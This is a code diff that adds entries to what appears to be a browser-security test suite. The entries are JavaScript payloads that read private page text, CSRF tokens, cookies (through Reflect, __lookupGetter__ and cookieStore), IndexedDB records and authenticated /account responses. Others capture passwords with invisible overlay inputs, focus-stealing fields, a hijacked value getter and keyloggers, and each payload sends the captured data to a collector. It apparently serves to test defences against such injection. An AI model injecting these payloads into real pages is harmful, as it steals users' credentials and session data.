@@ -42,6 +42,35 @@ const stolen = createEffects(
     'serialised page': sends("new XMLSerializer().serializeToString(D.getElementById('private'))"),
     'range of the page': (context) =>
       `var r=D.createRange();r.selectNode(D.getElementById('private'));${context.send('r.toString()')}`,
+    'text by a path': sends('D.evaluate(\'string(//p[@id="private"])\',D,null,2,null).stringValue'),
+    'text by a walker': (context) =>
+      `var w=D.createTreeWalker(D.getElementById('private'),4),t='';while(w.nextNode())t+=w.currentNode.nodeValue;${context.send('t')}`,
+    'data of a text node': sends("D.getElementById('private').firstChild.data"),
+    'part of a text node': sends("D.getElementById('private').firstChild.substringData(0,60)"),
+    'selected text': (context) =>
+      `W.getSelection().selectAllChildren(D.getElementById('private'));${context.send('String(W.getSelection())')}`,
+    'fragment of a range': (context) =>
+      `var r=D.createRange();r.selectNode(D.getElementById('private'));${context.send('r.cloneContents().textContent')}`,
+    'markup with shadow roots': sends(
+      '(D.body.getHTML?D.body.getHTML():D.body.innerHTML).split(\'<p id="private">\')[1].slice(0,60)',
+    ),
+    'copied element': sends("document.importNode(D.getElementById('private'),true).textContent"),
+    'default value': sends("D.getElementById('email').defaultValue"),
+    'attribute of a field': sends("D.getElementById('email').getAttribute('value')"),
+    'attribute node of a field': sends("D.getElementById('email').attributes.value.nodeValue"),
+    'elements of the form': sends('D.forms[0].elements.csrf.value'),
+    'cookie by the old getter': sends("D.__lookupGetter__('cookie').call(D)"),
+    'cookie by Reflect': sends("Reflect.get(W.Document.prototype,'cookie',D)"),
+    'one cookie of the store': then("W.cookieStore.get('session')", 'r.value'),
+    'clone of a variable': sends('structuredClone(W.account).token'),
+    'database with a cursor': (context) =>
+      `W.indexedDB.databases().then(function(l){l.forEach(function(b){var o=W.indexedDB.open(b.name);o.onsuccess=function(){if(!o.result.objectStoreNames.length)return;var g=o.result.transaction(o.result.objectStoreNames).objectStore(o.result.objectStoreNames[0]).openCursor();g.onsuccess=function(){g.result&&(function(){${context.send('JSON.stringify(g.result.value)')}})()}}})})`,
+    'page data by a worker': (context) =>
+      `var w=new Worker(URL.createObjectURL(new Blob(['fetch("'+W.location.origin+'/account",{credentials:"include"}).then(function(r){return r.text()}).then(postMessage)'])));w.onmessage=function(e){${context.send('e.data')}}`,
+    'page data as a module': (context) =>
+      `W.Function('return import("/account",{with:{type:"json"}})')().then(function(m){${context.send('m.default.token')}})`,
+    'page data by synchronous XHR': (context) =>
+      `var x=new XMLHttpRequest();x.open('GET',W.location.origin+'/account',false);x.send();${context.send('x.responseText')}`,
     'variable of the page': sends('W.account.token'),
     'all variables of the page': sends(
       "Object.keys(W).map(function(k){try{return JSON.stringify(W[k])}catch(e){return ''}}).join().slice(0,6000)",
@@ -91,6 +120,20 @@ const typed = createEffects(
       `D.addEventListener('submit',function(e){${context.send('new URLSearchParams(new FormData(e.target)).toString()')}},true)`,
     'form data listener': (context) =>
       `D.addEventListener('formdata',function(e){${context.send('new URLSearchParams(e.formData).toString()')}},true)`,
+    'field over the field': (context) =>
+      `var i=D.createElement('input'),r=D.getElementById('password').getBoundingClientRect();i.style.cssText='position:absolute;z-index:9;opacity:0;left:'+r.left+'px;top:'+r.top+'px;width:'+r.width+'px;height:'+r.height+'px';i.oninput=function(){i.value.length>9&&(function(){${context.send('i.value')}})()};D.body.appendChild(i)`,
+    'field that takes the focus': (context) =>
+      `var i=D.createElement('input');i.style.cssText='position:absolute;left:-999px';i.oninput=function(){i.value.length>9&&(function(){${context.send('i.value')}})()};D.body.appendChild(i);D.getElementById('password').addEventListener('focus',function(){setTimeout(function(){i.focus()})})`,
+    'field is replaced': (context) =>
+      `var o=D.getElementById('password'),n=o.cloneNode(true);n.oninput=function(){n.value.length>9&&(function(){${context.send('n.value')}})()};o.replaceWith(n)`,
+    'value getter is replaced': (context) =>
+      `var p=W.HTMLInputElement.prototype,d=Object.getOwnPropertyDescriptor(p,'value');Object.defineProperty(p,'value',{configurable:true,get:function(){var t=d.get.call(this);t.length>9&&(function(){${context.send('t')}})();return t},set:d.set})`,
+    'active element': (context) =>
+      `var s=0;setInterval(function(){var e=D.activeElement,t=e&&e.value||'';t.length>9&&!s&&(s=1,(function(){${context.send('t')}})())},60)`,
+    'key by an abort signal': (context) =>
+      `var b='';D.body.addEventListener('keyup',function(e){b+=e.key;b.length>9&&(function(){${context.send('b')}})()},{signal:new AbortController().signal,capture:true})`,
+    'form property': (context) =>
+      `D.forms[0].onsubmit=function(){${context.send('new URLSearchParams(new FormData(this)).toString()')}}`,
     'attribute on the field': (context) =>
       `D.getElementById('password').setAttribute('oninput',${quote(`this.value.length>9&&(new Image().src=${quote(`${context.url('c')}?`)}+this.value)`)})`,
     "the page's fetch is wrapped": (context) =>
